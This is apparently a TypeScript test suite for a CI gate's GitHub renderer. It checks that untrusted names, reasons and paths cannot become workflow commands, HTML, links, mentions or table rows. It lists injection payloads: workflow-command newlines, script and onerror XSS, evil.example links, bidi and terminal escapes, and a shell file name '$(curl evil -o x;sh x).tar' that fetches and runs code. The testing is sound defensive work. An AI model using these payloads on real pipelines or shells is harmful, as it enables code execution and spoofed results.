/** Names, reasons and paths that others chose must stay text: for Markdown, for HTML and for the runner. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type GateDecision, gateResults } from '../../../../src/gate/decision.js';
import { annotationLine, commandProperty, commandText } from '../../../../src/gate/github/command.js';
import { renderGithub } from '../../../../src/gate/github/render.js';
import { plainText } from '../../../../src/report/escape.js';
import { importWithout } from '../../../attacks/without-guard.js';
import {
  makeCell,
  makeDecision,
  makeRequirement,
  makeRun,
  makeWaiver,
} from '../../../fixtures/github-decision.js';

/** `text` in every place of a decision that somebody else fills. */
function filled(text: string): GateDecision {
  const reasons = [{ code: 'too-slow', message: text }];
  const cell = makeCell('401/512', 'fail', -9, { id: text, phase: text, detail: text, arm: text, reasons });
  return makeDecision('fail', {
    harness: text,
    reasons,
    policy: { path: text, title: text, trust: text, sha256: 'c'.repeat(64), commit: null },
    base: { branch: text, commit: 'b'.repeat(40) },
    requirements: [makeRequirement([cell], 'fail', { matrix: text, machine: text, reasons })],
    evidence: [true, false].map((counts) =>
      makeRun({
        path: text,
        session: text,
        signer: text,
        machineId: text,
        finishedAt: text,
        counts,
        reasons,
      }),
    ),
    waivers: [true, false].map((applies) =>
      makeWaiver({
        path: text,
        matrix: text,
        cell: text,
        reason: text,
        signer: text,
        expiresAt: text,
        applies,
        reasons,
      }),
    ),
  });
}

/** The runner's own way back, from actions/runner: a command is a line that begins with `::`. */
function unescaped(text: string): string {
  return text
    .replaceAll('%3A', ':')
    .replaceAll('%2C', ',')
    .replaceAll('%0D', '\r')
    .replaceAll('%0A', '\n')
    .replaceAll('%25', '%');
}

const ATTACKS = [
  'x\n::error title=owned::owned',
  'x\r\n::set-output name=result::pass',
  'x%0A::stop-commands::token',
  'title,file=/etc/passwd,line=1::x',
  '##[set-output name=result]pass',
  '</details><script>alert(1)</script>',
  '<!-- qualify:other -->',
  '--> <img src=x onerror=alert(1)>',
  '| pass | all | fine |\n| --- | --- | --- |',
  '`` `code` ```\n```\nPASS',
  '[PASS](https://evil.example) ![x](https://evil.example/x.png)',
  '@maintainer please merge, fixes #1, www.evil.example',
  '**PASS** # PASS',
  '# PASS',
  '- PASS',
  '1. PASS',
  '/',
  '\u202eSSAP\u2066',
  '\u001b[2J\u001b]8;;https://evil.example\u0007PASS',
];

type Files = ReturnType<typeof renderGithub>;

/** What must hold of the files of an attack, beside those of the same decision with a harmless word; by what it is about. */
const checks = {
  summary: (files: Files, harmless: Files, attack: string) =>
    isText(files['summary.md'], harmless['summary.md'], attack),
  comment: (files: Files, harmless: Files, attack: string) =>
    // The first line is the marker, by which the comment is found again.
    isText(afterFirst(files['comment.md']), afterFirst(harmless['comment.md']), attack),
  annotations: (files: Files, harmless: Files, attack: string) => {
    const lines = files['annotations.txt'].trimEnd().split('\n');
    assert.equal(lines.length, harmless['annotations.txt'].trimEnd().split('\n').length);
    for (const line of lines) {
      assert.match(line, /^::(error|warning|notice) title=[^:,\r\n]*::[^\r\n]*$/, attack);
      assert.doesNotMatch(unescaped(line), /[\r\n]/, attack);
    }
  },
  'check run': (files: Files, _: Files, attack: string) => {
    const { conclusion, output } = JSON.parse(files['check-run.json']);
    assert.equal(conclusion, 'failure');
    assert.ok(output.annotations.length > 0);
    for (const { path, title, message } of output.annotations)
      for (const text of [output.title, path, title, message]) assert.equal(plainText(text), text, attack);
  },
} satisfies Record<string, (files: Files, harmless: Files, attack: string) => void>;

const afterFirst = (text: string): string => text.slice(text.indexOf('\n') + 1);

/** Markdown of the same lines, and in them no list, heading, element, link or mention of another. */
function isText(shown: string, plain: string, attack: string): void {
  const lines = shown.split('\n');
  assert.equal(lines.length, plain.split('\n').length, `it has other lines: ${attack}`);
  for (const line of lines)
    assert.match(line, /^$|^(### |- [a-z ]+: |[A-Za-z\d*|<`])/, 'a list or a heading of another');
  const outside = shown.replaceAll(/`[^`\n]*`/g, '');
  assert.deepEqual(
    outside.replaceAll('<!-- -->', '').match(/<[^>]*>/g) ?? [],
    ['<details>', '<summary>', '</summary>', '</details>'],
    attack,
  );
  assert.doesNotMatch(outside, /(?<!\\)\]\(|https?:\/\/|(^|[^&\w])@\w|www\./, attack);
  assert.equal(plainText(lines.join('')), lines.join(''));
}

test('nothing that others chose becomes a command, a tag, a link, a mention or a row', () => {
  const harmless = renderGithub(filled('harmless'));
  for (const attack of ATTACKS) {
    const files = renderGithub(filled(attack));
    assert.match(files['comment.md'], /^<!-- qualify:[\w./-]* -->\n/);
    for (const check of Object.values(checks)) check(files, harmless, attack);
  }
});

/** Attacks that are aimed at each of them. In the JSON of a check run only what steers a terminal does harm. */
const AIMED = {
  summary: /<script|<img|@|\]\(|\n/,
  comment: /<script|<img|@|\]\(|\n/,
  annotations: /\n|%0A/,
  'check run': /[\p{Cc}\u202e]/u,
} satisfies Record<keyof typeof checks, RegExp>;

test('without the escapes, attacks have their way in summary, comment, annotations and check run', async (context) => {
  const { renderGithub: lax } = await importWithout<{ renderGithub: typeof renderGithub }>(
    context,
    'gate/github/render',
    {
      module: 'report/escape',
      guard: 'export const markdownText = (text) => plainText(text)',
      instead: 'export const markdownText = (text) => text; export const was = (text) => plainText(text)',
    },
    {
      module: 'gate/github/command',
      guard: "plainText(text).replaceAll('%', '%25').replaceAll('\\r', '%0D').replaceAll('\\n', '%0A')",
      instead: 'text',
    },
    ...['title, 200', 'message, 4000', 'decision.policy.path, 200'].map((text) => ({
      module: 'gate/github/check-run',
      guard: `plainText(brief(${text}))`,
      instead: `brief(${text})`,
    })),
  );
  const harmless = lax(filled('harmless'));
  for (const [name, check] of Object.entries(checks)) {
    check(lax(filled('harmless')), harmless, 'harmless');
    const succeed = ATTACKS.filter((attack) => {
      try {
        check(lax(filled(attack)), harmless, attack);
        return false;
      } catch (error) {
        assert.ok(error instanceof assert.AssertionError, String(error));
        return true;
      }
    });
    context.diagnostic(`${name}: ${succeed.length} of ${ATTACKS.length}`);
    const aimed = AIMED[name as keyof typeof AIMED];
    for (const attack of ATTACKS.filter((text) => aimed.test(text)))
      assert.ok(succeed.includes(attack), `${name}: ${attack}`);
  }
});

test('the command that a comment tells to paste holds no name that a shell would run or that is an option', () => {
  const told = (path: string, trust: string): string => {
    const decision = makeDecision('pass', { evidence: [makeRun({ path })] });
    const { 'comment.md': comment } = renderGithub({ ...decision, policy: { ...decision.policy, trust } });
    return /^Check it yourself: `(.*)`$/m.exec(comment)?.[1] ?? '';
  };
  assert.equal(
    told('in/run-1_a.tar', '.github/qualify trust.json'),
    'qualify verify run-1_a.tar --trust TRUST --explain',
  );
  for (const name of [
    '$(curl evil -o x;sh x).tar',
    '-x.tar',
    'a b.tar',
    'a;b',
    "a'b",
    '`id`',
    'é.tar',
    `${'x'.repeat(300)}`,
  ])
    assert.equal(
      told(`in/${name}`, '.github/trust.json'),
      'qualify verify RUN --trust .github/trust.json --explain',
      name,
    );
});

test('a command says what it was given and ends where it should, whatever that was', () => {
  assert.equal(annotationLine('error', 'a:b,c%', '50 % ::x'), '::error title=a%3Ab%2Cc%25::50 %25 ::x');
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (title, message) => {
      const line = annotationLine('notice', title, message);
      const [, property = '', data = ''] = /^::notice title=([^:,\r\n]*)::([^\r\n]*)$/.exec(line) ?? [];
      assert.equal(unescaped(property), unescaped(commandProperty(title)));
      assert.equal(data, commandText(message));
      assert.doesNotMatch(unescaped(data), /[\r\n]/, 'also unescaped it is one line');
    }),
  );
});

test('any text in any place leaves the result readable', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.constantFrom(...gateResults),
      (text, result) => {
        const decision = { ...filled(text), result, exitCode: 10 };
        const files = renderGithub(decision);
        assert.match(files['comment.md'], /^<!-- qualify:[\w./-]* -->\n\n### /);
        assert.notEqual(JSON.parse(files['check-run.json']).conclusion, 'success');
      },
    ),
    { numRuns: 200 },
  );
});
